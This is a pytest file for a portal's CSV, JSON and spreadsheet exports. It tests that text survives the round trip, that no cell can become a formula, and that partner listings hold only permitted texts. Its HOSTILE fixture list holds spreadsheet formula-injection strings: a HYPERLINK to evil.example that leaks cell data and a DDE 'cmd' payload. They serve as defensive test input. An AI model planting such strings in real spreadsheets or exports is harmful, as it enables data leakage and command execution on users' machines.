"""The exports without a build: CSV and JSON keep every text exactly (the CSV but for the guard at
the start of a cell), the spreadsheet is made for people (labels, numbers, dates, a frozen and
filtered header) and can hold no formula, and every listing offers the files of its own texts,
with the partners' tier rule."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from portal.checks.validate import validate_repo
from portal.config import Repo
from portal.lifecycle import select_active
from portal.model import Submission
from portal.publish.render.export import FIELDS, FORMULA_START, export_csv, export_json
from portal.publish.render.site import Rendered, TierInput, readable_namer, render_tier
from portal.publish.render.spreadsheet import COLUMNS, DATE_FORMAT, export_xlsx

from tests.helpers import VOCABULARY

TODAY = dt.date(2026, 11, 20)
HOSTILE = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3\n- a list item",
    "@SUM(A1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return\r\nand CRLF\rand CR",
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    'He said "yes"; she said "no", and \'maybe\'',
    "a;b;c\n;=cmd|' /C calc'!A0\n,+1\n\t@x",
    "lines\n\n\nwith blank lines\n",
    "Ã©tÃ© â€™ \ufeffBOM inside \u2028line separator\u2029 \x85NEL \u200bzero width \U0001f600 \x00nul \x07bell",
    "",
]


@pytest.fixture(scope="module")
def examples(example_repo_template: Path) -> list[Submission]:
    return list(validate_repo(Repo(example_repo_template)).submissions)


def guarded(cell: str) -> str:
    """The one change the CSV makes: an apostrophe before a cell that starts like a formula."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_text_round_trips_through_csv_and_json_but_for_the_guard_at_the_start_of_a_cell(examples: list[Submission]) -> None:
    base = examples[0]
    texts = [sub.text for sub in examples] + HOSTILE
    subs = [dataclasses.replace(base, id=f"text-{number:03}", text=text, title=text or "untitled") for number, text in enumerate(texts)]
    rows = {row["id"]: row for row in csv_rows(export_csv(subs))}
    document = json.loads(export_json(subs, "Portal", "States", TODAY, VOCABULARY))
    records = {record["id"]: record for record in document["texts"]}
    for sub in subs:
        assert rows[sub.id]["text"] == guarded(sub.text), sub.id
        assert rows[sub.id]["title"] == guarded(sub.title), sub.id
        assert records[sub.id]["text"].encode("utf-8") == sub.text.encode("utf-8"), sub.id
        assert records[sub.id]["title"] == sub.title
    # The example texts with lines that start with "-" (lists) keep them: no apostrophe inside a cell.
    listed = [sub for sub in examples if re.search(r"^-", sub.text, re.M)]
    assert len(listed) >= 4
    assert all("\n'-" not in rows[f"text-{examples.index(sub):03}"]["text"] for sub in listed)


def test_a_csv_cell_never_starts_a_formula(examples: list[Submission]) -> None:
    subs = [dataclasses.replace(examples[0], id=f"text-{number}", text=text, title=text, contact_name=text) for number, text in enumerate(HOSTILE)]
    for row in csv.reader(io.StringIO(export_csv(subs).decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def sheet_of(data: bytes) -> tuple[list[str], list[list[Any]], Any]:
    sheet = load_workbook(io.BytesIO(data))["Texts"]
    header = [str(cell.value) for cell in sheet[1]]
    return header, [list(row) for row in sheet.iter_rows(min_row=2)], sheet


def test_the_spreadsheet_names_values_in_words_with_numbers_and_dates(examples: list[Submission]) -> None:
    subs = select_active(examples, TODAY)
    header, rows, sheet = sheet_of(export_xlsx(subs, TODAY, VOCABULARY))
    assert header == [COLUMNS[name][0] for name in FIELDS]
    column = {name: header.index(COLUMNS[name][0]) for name in FIELDS}
    by_id = {str(row[column["id"]].value): row for row in rows}
    assert sorted(by_id) == sorted(sub.id for sub in subs)
    for sub in subs:
        row = by_id[sub.id]

        def value(name: str, row: list[Any] = row) -> Any:
            return row[column[name]].value

        assert value("kind") == VOCABULARY.kind_singular[sub.kind]
        assert value("themes") == "; ".join(VOCABULARY.themes[theme] for theme in sub.themes)
        assert value("assistance") == "; ".join(VOCABULARY.assistance[kind] for kind in sub.assistance)
        assert value("audience") == VOCABULARY.audiences[sub.audience]
        assert value("submitter_type") == VOCABULARY.submitter_types[sub.submitter.type]
        assert (value("countries") or "") == "; ".join(country.name for country in sub.countries)
        for name in ("received", "published", "expires"):
            cell = row[column[name]]
            assert cell.is_date and cell.number_format == DATE_FORMAT and cell.value.date() == getattr(sub, name)
        budget = sub.meta.get("budget")
        if budget:
            amount = row[column["budget_amount"]]
            assert amount.data_type == "n" and amount.value == budget["amount"]
            assert value("budget_currency") == budget["currency"]
    assert any(sub.meta.get("budget") for sub in subs)
    # A header row that stays and filters, set widths, wrapped text.
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Y{len(subs) + 1}"
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXY"
    assert [sheet.column_dimensions[letter].width for letter in letters] == [COLUMNS[name][1] for name in FIELDS]
    assert all(cell.alignment.wrap_text for row in rows for cell in row if cell.value is not None)


def test_no_spreadsheet_cell_can_become_a_formula(examples: list[Submission]) -> None:
    subs = [
        dataclasses.replace(examples[0], id=f"t-{number}", text=text, title=text or "untitled", contact_name=text, contact_email=text)
        for number, text in enumerate(HOSTILE)
    ]
    data = export_xlsx(subs, TODAY, VOCABULARY)
    _header, rows, _sheet = sheet_of(data)
    strings = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    assert len(strings) > len(HOSTILE) * 4
    for cell in strings:
        assert cell.data_type == "s", cell.value
        # One that starts like a formula is marked as text (the spreadsheet's own apostrophe).
        assert cell.quotePrefix or not cell.value.startswith(FORMULA_START), cell.value
    assert not any(cell.quotePrefix for cell in strings if cell.value.startswith(("a", "H", "l")))
    texts = {cell.value for cell in strings}
    assert "=1+1" in texts and '=HYPERLINK("https://evil.example/?"&A1;"click")' in texts  # kept exactly, without an apostrophe
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def tiers(examples: list[Submission], example_repo_template: Path) -> dict[str, tuple[TierInput, Rendered]]:
    settings = Repo(example_repo_template).settings
    active = select_active(examples, TODAY)
    made = {}
    for number, tier in enumerate(settings.tiers):
        data = TierInput(
            "Portal",
            tier.label,
            [sub for sub in active if sub.audience in tier.audiences],
            TODAY,
            30,
            "Coordinator",
            "c@example.org",
            VOCABULARY,
            partners_tier=number > 0,
            earlier={sub.id: sub for sub in examples if sub.audience in tier.audiences},
        )
        made[tier.id] = (data, render_tier(data, readable_namer))
    return made


LINK = re.compile(r'<a href="([^"]+)" download="([^"]+)" data-portal-file')


def test_every_listing_offers_the_export_of_its_own_texts_and_partners_only_theirs(examples: list[Submission], example_repo_template: Path) -> None:
    made = tiers(examples, example_repo_template)
    states_only = {sub.id for sub in examples if sub.audience == "states"}
    for tier, (data, out) in made.items():
        shown = {sub.id: sub for sub in data.submissions}
        expected = {
            "submitter-lao.md": {sub.id for sub in shown.values() if sub.submitter.code == "LAO" or "LAO" in [c.code for c in sub.countries]},
            "kind-need.md": {sub.id for sub in shown.values() if sub.kind == "need"},
            "theme-victim-assistance.md": {sub.id for sub in shown.values() if "victim-assistance" in sub.themes},
        }
        for page, ids in expected.items():
            links = dict(LINK.findall(out.pages[page]))
            assert sorted(Path(name).suffix for name in links.values()) == [".csv", ".json", ".xlsx"], (tier, page)
            assert ids and all(data.today.isoformat() in name for name in links.values())
            for href, name in links.items():
                content = out.generated[href]
                assert href in out.alike  # sealed like the tier's export
                if name.endswith(".csv"):
                    assert {row["id"] for row in csv_rows(content)} == ids, (tier, page)
                elif name.endswith(".json"):
                    assert {record["id"] for record in json.loads(content)["texts"]} == ids
                else:
                    assert {row[0].value for row in sheet_of(content)[1]} == ids
        # An outcome's listing offers its export too; no listing without texts offers one.
        assert any(LINK.search(markdown) for name, markdown in out.pages.items() if name.startswith("outcome-"))
        assert not any(LINK.search(markdown) for markdown in out.pages.values() if "_None at the moment._" in markdown and "kind-" in markdown)
        assert len(set(out.alike.values())) == len(out.alike)  # one home per file
        if data.partners_tier:
            for content in out.generated.values():
                assert not any(text_id.encode() in content for text_id in states_only if text_id not in data.earlier)
    # The States read more, so their listings' files are at least as many.
    assert len(made["states"][1].generated) >= len(made["partners"][1].generated) > 3
